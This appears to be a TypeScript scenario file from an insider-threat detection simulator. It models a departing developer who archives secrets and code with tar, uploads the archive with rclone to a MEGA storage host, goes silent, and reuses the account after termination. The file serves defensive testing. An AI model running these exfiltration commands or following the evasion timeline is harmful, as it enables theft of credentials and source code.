import { clock, clones, inHome, repositories, settingOf, sweepsSecrets, uploads } from '../operators.ts'
import { below, between } from '../random.ts'
import type { Scenario, Stage } from '../scene.ts'

/**
 * The contract is ended. Before the last day keys, cookies and code are collected and taken out, the agent goes silent,
 * and after the end the account is used from elsewhere.
 *
 * Variants  'patient': little by little over the fortnight, and the token is used only two weeks after the end.
 *           'wiped': the laptop is reinstalled on the last day, so the last hours are never reported.
 * Source    threat model P13, #80, #83 to #85, #97; Secureworks' extortion cases. HR announces the end two weeks
 *           before.
 */
export const p13: Scenario = {
  id: 'P13',
  title: 'extortion at the end',
  truth: 'infiltrator',
  people: 1,
  days: 32,
  variants: ['patient', 'wiped'],
  play(cast) {
    const { random, variant } = cast
    const worker = cast.people[0]!
    const { claimed, operator, system } = settingOf(cast)
    const home = cast.home(claimed)
    const far = cast.exit(operator)
    const announced = worker.workday(3)
    const last = worker.workday(13)
    const end = cast.start + last * 86_400_000 + 23 * 3_600_000
    worker.livesAt(home).role('developer').system(system).hours('09:00', '17:30').amends(announced, { end })
    worker.hearsFromHr(announced, '09:05', { Action: 'ending', EffectiveAt: end })
    worker.hearsFromHr(last, '18:00', { Action: 'ended', EffectiveAt: end })

    const takes = (bytes: number, from: string, count: number) => (stage: Stage) => {
      const moment = sweepsSecrets(stage.at(from), system, stage.random)
      clones(moment, repositories(stage.random, count), stage.random, home.exit)
      const image = system === 'windows' ? 'C:\\Windows\\System32\\tar.exe' : '/usr/bin/tar'
      moment
        .wait(4)
        .runs(image, 'tar czf k.tgz k src')
        .wait(3)
        .saw('archive_created', { Bytes: bytes, Encrypted: null, Image: image })
      const rclone = inHome(system, system === 'windows' ? 'Downloads/rclone.exe' : 'Downloads/rclone')
      moment.runs(rclone, `rclone copy k.tgz m:${below(stage.random, 100)} --transfers 8`)
      uploads(moment, system, {
        bytes,
        image: rclone,
        host: 'gfs270n123.userstorage.mega.co.nz',
        minutes: between(stage.random, 15, 60),
      })
    }
    if (variant === 'patient')
      for (const nth of [4, 7, 10, 12])
        worker.on(
          worker.workday(nth),
          takes(Math.round(between(random, 80e6, 200e6)), clock(random, '17:40', '19:30'), 3),
        )
    else
      worker.on(
        worker.workday(10 + below(random, 3)),
        takes(Math.round(between(random, 0.6e9, 3e9)), clock(random, '18:00', '20:00'), 9 + below(random, 8)),
      )

    // The laptop is silent after the last day, or, wiped, from the morning before it.
    const silentFrom = variant === 'wiped' ? last - 1 : last
    worker.on(silentFrom, (stage) => void stage.silent(variant === 'wiped' ? '11:30' : '15:30', 24 * 40))
    worker.on({ from: last + 1, to: cast.days - 1 }, (stage) => void stage.rests())
    const used = last + (variant === 'patient' ? 12 : 2) + below(random, 2)
    worker.on([used, used + 1], (stage) => {
      stage
        .at(clock(stage.random, '20:00', '23:00'))
        .feed('idp_login', { ManagedDevice: false, Mobile: false, App: 'code' }, far)
        .wait(3)
        .feed('repo_audit', { Action: 'clone', Repository: repositories(stage.random, 1)[0]!, Bytes: 90_000_000 }, far)
    })
  },
}
